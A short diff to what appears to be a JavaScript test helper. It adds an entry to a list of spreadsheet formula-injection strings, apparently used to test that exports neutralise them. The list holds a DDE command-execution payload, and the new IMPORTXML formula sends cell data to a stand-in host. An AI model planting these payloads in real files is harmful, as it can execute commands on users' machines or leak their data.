@@ -27,7 +27,7 @@ export async function sessionFile(page) {
 export const golden = fileURLToPath(new URL('../data/golden/session-1.ensaio', import.meta.url));
 
 /** Texts that a spreadsheet might run. */
-export const injections = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://exemplo.invalid";"clique")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '{=1}', '"=1"', '<b>&amp;'];
+export const injections = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://exemplo.invalid";"clique")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '=IMPORTXML("http://exemplo.invalid/"&A1;"//a")', '{=1}', '"=1"', '<b>&amp;'];
 
 /** @param {Buffer} bytes */
 function crc32c(bytes) {
